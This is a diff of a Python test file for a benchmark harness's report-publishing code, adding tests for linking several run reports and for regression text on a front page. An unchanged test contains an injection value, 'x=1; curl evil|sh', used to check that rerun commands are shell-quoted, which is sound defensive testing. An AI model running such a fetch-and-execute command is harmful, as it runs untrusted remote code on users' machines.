@@ -12,11 +12,12 @@ from harness.core.record import Step
 from harness.core.verdict import Verdict
 from harness.publish import places
 from harness.publish.beside import boxes
+from harness.publish.pages import front
 from harness.publish.said import newest_figure, trouble, verdict
 from harness.publish.sheet import Charts, Grid, Prose
 from harness.publish.site import publish
 from harness.publish.stock import ArmKey, Standing, Stock
-from tests.publish.made import Page, arm, metric, pages, run
+from tests.publish.made import Page, arm, metric, pages, report, run
 from tests.publish.made import verdict as judged
 
 KEY = ArmKey("box", "m", "q4", "llama_cpp")
@@ -89,6 +90,22 @@ def test_a_run_is_made_again_by_a_line_that_a_shell_takes_as_it_is_meant(tmp_pat
     assert "python -m harness run 'quant=[q8_0,q4_k_m]' 'x=1; curl evil|sh' " in text[0]
     assert "reports=" not in text[0]
     assert "The same again" not in text[1]
+
+
+def test_the_newest_of_several_reports_of_a_run_is_its_report_and_the_others_are_linked_too(tmp_path: Path) -> None:
+    one = run(1, arm("q4"))
+    for number in ("", "-2", "-10"):
+        report(tmp_path / "reports", f"2026-03-01-m{number}", one.plan)
+    publish([one], tmp_path / "reports", tmp_path / "site")
+    links = {page.path.name: [each for each in page.links if "reports/" in each] for page in pages(tmp_path / "site")}
+    assert links["index.html"] == ["reports/2026-03-01-m-10/index.html"]
+    assert links[f"{one.plan}.html"] == [f"../reports/2026-03-01-m{number}/index.html" for number in ("-10", "-2", "")]
+
+
+def test_steps_for_the_worse_are_told_where_nothing_was_judged() -> None:
+    runs = [run(n, arm("q4", metrics=[metric("decode", one)])) for n, one in enumerate([50.0] * 8 + [40.0] * 8)]
+    assert front(Stock(runs, [])).lead == (
+        "No quantization has been judged yet. One history has a step for the worse, the newest since 9 Mar 2026.")
 
 
 def test_a_run_that_has_not_begun_hides_nothing(tmp_path: Path) -> None:
